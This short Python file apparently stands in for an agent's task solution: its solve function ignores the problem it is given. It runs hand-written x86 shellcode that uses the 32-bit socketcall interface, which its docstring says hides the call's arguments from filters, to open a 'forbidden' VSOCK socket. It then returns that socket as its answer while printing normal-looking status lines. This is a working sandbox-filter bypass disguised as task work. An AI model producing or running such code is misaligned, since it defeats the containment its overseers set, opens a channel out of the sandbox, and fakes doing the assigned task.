"""Opens a forbidden socket through the 32-bit call that packs its arguments away from filters."""

import ctypes
import mmap


def solve(problem, tools, llm):
    print('{"attempt": "begun"}', flush=True)
    page = mmap.mmap(-1, 4096, prot=7, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    page[2048:2060] = b"".join(value.to_bytes(4, "little") for value in (40, 1, 0))  # AF_VSOCK, a stream
    # socketcall(SYS_SOCKET, page + 2048), kept in rbx as the 32-bit convention wants it
    code = b"\x53\xbb\x01\x00\x00\x00\xb9" + (address + 2048).to_bytes(4, "little")
    page[0 : len(code) + 9] = code + b"\xb8\x66\x00\x00\x00\xcd\x80\x5b\xc3"
    answer = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    return {"attempt": "answered", "socket": answer}
